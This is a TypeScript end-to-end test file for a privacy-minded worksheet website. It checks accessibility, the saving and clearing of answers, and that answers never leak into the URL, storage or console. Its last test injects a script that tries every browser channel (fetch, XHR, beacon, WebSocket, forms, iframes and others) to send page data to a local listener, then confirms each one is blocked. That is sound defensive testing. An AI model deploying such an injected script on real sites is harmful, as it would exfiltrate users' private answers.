import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { unzip } from "../../scripts/worksheet/testing";
import { answerAll, axe, download, goTo, REFLECTION, Site, SUMMARY } from "./worksheet-site";

const SECRET = "Quokka7";

let site: Site;
beforeAll(async () => {
	site = await Site.start();
});
afterAll(() => site?.stop());

describe("a worksheet", () => {
	it.each([REFLECTION, SUMMARY])("can be answered and taken away by keyboard alone: %s", async (path) => {
		const { page, said } = await site.open(`${path}#before-you-start`);
		await answerAll(page, SECRET);
		const file = await download(page, () => page.keyboard.press("Enter"));
		const body = Buffer.from(unzip(file.data).get("word/document.xml") ?? "").toString("utf8");
		expect(body.split(SECRET).length).toBeGreaterThan(8);
		const questions = await page.locator("[data-question]").count();
		expect(await page.textContent("[data-answered]")).toContain(`answered ${questions} of ${questions}`);
		expect(file.name).toMatch(/^notes-\d{4}-\d\d-\d\d\.docx$/);
		expect(said).toEqual([]);
		await page.context().close();
	});

	it("keeps answers out of address, title, history, storage and console", async () => {
		const { page, said } = await site.open(`${REFLECTION}#my-story`);
		const title = await page.title();
		await page.fill("#q-why-medicine", SECRET);
		await page.click("[data-next]");
		await page.click("[data-previous]");
		await page.goto(`${site.address}${REFLECTION}#your-copy`);
		await download(page, () => page.click("[data-act=text]"));
		const left = await page.evaluate(async () => ({
			url: location.href,
			title: document.title,
			state: JSON.stringify(history.state),
			stored: JSON.stringify([
				{ ...localStorage },
				{ ...sessionStorage },
				document.cookie,
				await indexedDB.databases(),
			]),
		}));
		expect(left.url).toBe(`${site.address}${REFLECTION}#your-copy`);
		expect(left.title).toBe(title);
		expect(left.state).toBe("null");
		expect(left.stored).toBe('[{},{},"",[]]');
		expect(said).toEqual([]);
		await page.context().close();
	});

	it("warns before unsaved answers are left, and only then", async () => {
		const { page } = await site.open(`${SUMMARY}#the-session`);
		let asked = 0;
		page.on("dialog", async (dialog) => {
			asked += 1;
			await dialog.accept();
		});
		await page.goto(`${site.address}/`);
		expect(asked).toBe(0);
		await page.goto(`${site.address}${SUMMARY}#the-session`);
		await page.click("#q-topics");
		await page.keyboard.type(SECRET);
		await page.goto(`${site.address}/`);
		expect(asked).toBe(1);
		await page.goto(`${site.address}${SUMMARY}#the-session`);
		await page.click("#q-topics");
		await page.keyboard.type(SECRET);
		await goTo(page, "your-copy");
		await download(page, () => page.click("[data-act=text]"));
		await page.goto(`${site.address}/`);
		expect(asked).toBe(1);
		await page.context().close();
	});

	it("clears after asking, and brings everything back", async () => {
		const { page } = await site.open(`${SUMMARY}#your-copy`);
		await goTo(page, "action-plan");
		await page.fill("[data-question=actions] [data-column=action]", SECRET);
		await page.click("text=Add another action");
		await page.keyboard.type("Second");
		await goTo(page, "your-copy");
		await page.click("[data-act=clear]");
		expect(await page.textContent("[data-report]")).toContain("cannot take back files you have downloaded");
		await page.click("text=Yes, clear them");
		expect(await page.inputValue("[data-question=actions] [data-column=action]")).toBe("");
		await page.getByRole("button", { name: "Undo", exact: true }).click();
		const values = await page
			.locator("[data-question=actions] [data-column=action]")
			.evaluateAll((fields) => fields.map((f) => (f as HTMLTextAreaElement).value));
		expect(values.slice(0, 2)).toEqual([SECRET, "Second"]);
		await page.context().close();
	});

	it("reads in full without script", async () => {
		const { page } = await site.open(REFLECTION, { javaScriptEnabled: false });
		const questions = page.locator("[data-question]");
		expect(await questions.count()).toBeGreaterThan(50);
		for (const question of await questions.all()) expect(await question.isVisible()).toBe(true);
		expect(await page.locator("[data-steps], [data-copy], [data-turn]").locator("visible=true").count()).toBe(0);
		expect(await page.locator("noscript").textContent()).toContain("filled in by hand");
		await page.context().close();
	});

	it.each([320, 1280])("has no finding by axe at %i pixels", async (width) => {
		for (const path of [REFLECTION, SUMMARY]) {
			const { page } = await site.open(path, { viewport: { width, height: 900 } });
			expect(await axe(page)).toEqual([]);
			await page.evaluate(() =>
				document.querySelector<HTMLDetailsElement>("[data-steps-box]")?.setAttribute("open", ""),
			);
			await page.click("[data-show-all]");
			expect(await axe(page)).toEqual([]);
			await page.context().close();
		}
	});
});

describe("nothing that a worksheet holds can be sent away", () => {
	it("by any means a script has", async () => {
		const arrived: string[] = [];
		const listener = createServer((request, response) => {
			arrived.push(`${request.method} ${request.url}`);
			response.end();
		});
		listener.on("upgrade", (request, socket) => {
			arrived.push(`upgrade ${request.url}`);
			socket.destroy();
		});
		await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done));
		const away = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
		const attacked = await Site.start((built) => ({
			"attack.js": attack(away),
			[`${REFLECTION}index.html`]: built(`${REFLECTION}index.html`).replace(
				"</body>",
				'<script src="/attack.js"></script></body>',
			),
		}));
		const { page } = await attacked.open(REFLECTION);
		await page.waitForFunction(() => document.body.dataset.tried === "done", undefined, { polling: 100 });
		await page.waitForTimeout(500);
		expect(await page.getAttribute("body", "data-refused")).toBe(
			"fetch xhr beacon websocket eventsource image script style frame form eval html",
		);
		expect(arrived).toEqual([]);
		expect(attacked.asked.filter((path) => path.includes("stolen"))).toEqual([]);
		listener.close();
		await attacked.stop();
	});
});

/** A script on the page itself that tries every way out and notes which ones were refused. */
function attack(away: string): string {
	return `
	const refused = [], here = location.origin + "/stolen", note = (n) => refused.push(n);
	const wait = (ms) => new Promise((r) => setTimeout(r, ms));
	const violations = [];
	document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
	const violated = async (act) => { const before = violations.length; try { act(); } catch { return true; } for (let i = 0; i < 60 && violations.length === before; i++) await wait(50); return violations.length > before; };
	(async () => {
		try { await fetch("${away}/fetch?x=1"); } catch { try { await fetch(here); } catch { note("fetch"); } }
		await new Promise((done) => { const x = new XMLHttpRequest(); x.onerror = () => { note("xhr"); done(); }; x.onload = done; x.open("POST", "${away}/xhr"); x.send("x"); });
		if (await violated(() => navigator.sendBeacon("${away}/beacon", "x"))) note("beacon");
		if (await violated(() => new WebSocket("${away.replace("http", "ws")}/socket"))) note("websocket");
		if (await violated(() => new EventSource("${away}/events"))) note("eventsource");
		if (await violated(() => { new Image().src = "${away}/image?x=1"; })) note("image");
		if (await violated(() => { const s = document.createElement("script"); s.src = "${away}/script"; document.head.append(s); })) note("script");
		if (await violated(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${away}/style"; document.head.append(l); })) note("style");
		if (await violated(() => { const f = document.createElement("iframe"); f.src = "${away}/frame"; document.body.append(f); })) note("frame");
		if (await violated(() => { const f = document.createElement("form"); f.action = "${away}/form"; f.method = "post"; document.body.append(f); f.submit(); })) note("form");
		try { eval("1"); } catch { note("eval"); }
		try { document.createElement("div").innerHTML = "<b>x</b>"; } catch { note("html"); }
		document.body.dataset.refused = refused.join(" ");
		document.body.dataset.tried = "done";
	})();`;
}
